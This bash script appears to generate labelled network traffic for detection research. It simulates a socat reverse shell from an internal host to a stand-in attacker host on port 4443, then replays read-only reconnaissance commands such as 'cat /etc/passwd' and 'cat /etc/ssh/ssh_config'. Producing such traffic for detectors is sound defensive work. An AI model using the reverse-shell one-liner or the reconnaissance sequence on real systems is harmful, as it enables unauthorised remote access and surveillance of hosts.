#!/usr/bin/env bash
# A reverse shell: bash behind socat connects out, somebody types commands at the server for forty minutes. The commands only read.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-12T21:10:00Z
uc_start 400 curl nginx-light socat
uc_lan 10.8.0.1/24
uc_host web2 10.8.0.22
uc_host ws5 10.8.0.5
uc_browse_sites
uc_name cdn7.fastpixel-edge.example 198.51.100.214
uc_up

mkfifo "$UC_WORK/keys"
uc_bg wan bash -c "exec 3<>$UC_WORK/keys; exec socat STDIO TCP-LISTEN:4443,bind=198.51.100.214,reuseaddr <&3 >/dev/null"
uc_wait "listener" uc_in wan bash -c 'ss -ltn | grep -q :4443'

uc_plan <<'PY'
import os
from plan import Plan
plan = Plan(seed=43)
rng, keys, host = plan.rng, os.environ["UC_WORK"] + "/keys", "10.8.0.22"
plan.add(8, host, "(setsid socat TCP:cdn7.fastpixel-edge.example:4443 EXEC:'bash --noprofile --norc -i',pty,stderr,setsid,ctty,echo=0 "
                  "</dev/null >/dev/null 2>&1 &) ; sleep 0.5")
commands = ["id", "uname -a", "cat /etc/os-release", "ip addr", "ip route", "ls -la /etc | head -60",
            "cat /etc/passwd", "ls -laR /etc/ssl | head -120", "cat /etc/services | head -150", "who",
            "find /usr/share/doc -maxdepth 1 | head -200", "ls -la /var/log", "head -c 6000 /usr/bin/ls | base64",
            "cat /proc/cpuinfo", "cat /proc/meminfo", "ss -tn", "ls /usr/bin | head -300", "date -u +%H", "cat /etc/ssh/ssh_config", "dpkg -l | head -90",
            "cat /etc/crontab", "tail -50 /etc/login.defs", "free -m", "uptime"]
at = 14
while at < 2400:
    command = rng.choice(commands)
    plan.add(at, host, f"printf '%s\\n' '{command}' > {keys}; sleep 0.15")
    # Reading takes a while, thinking takes longer; a typing mistake is followed at once by another try.
    at += min(4 + rng.lognormvariate(2.5, 0.9), 210)
plan.add(at, host, f"printf 'exit\\n' > {keys}; sleep 0.3")
plan.browse("10.8.0.5", 0, 2500, pause_s=35, break_s=400)
plan.every(host, 100, 2500, 600, 0.02, "curl -s -o /dev/null --cacert $UC_CA https://static.postwise.example/part-3.bin")
plan.write()
PY
uc_drive --helper 10.8.0.5 browser "python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions socat bash curl nginx-light dnsmasq-base tcpdump)" <<'LABELS'
10.8.0.22 198.51.100.214:4443 c2 interactive
LABELS
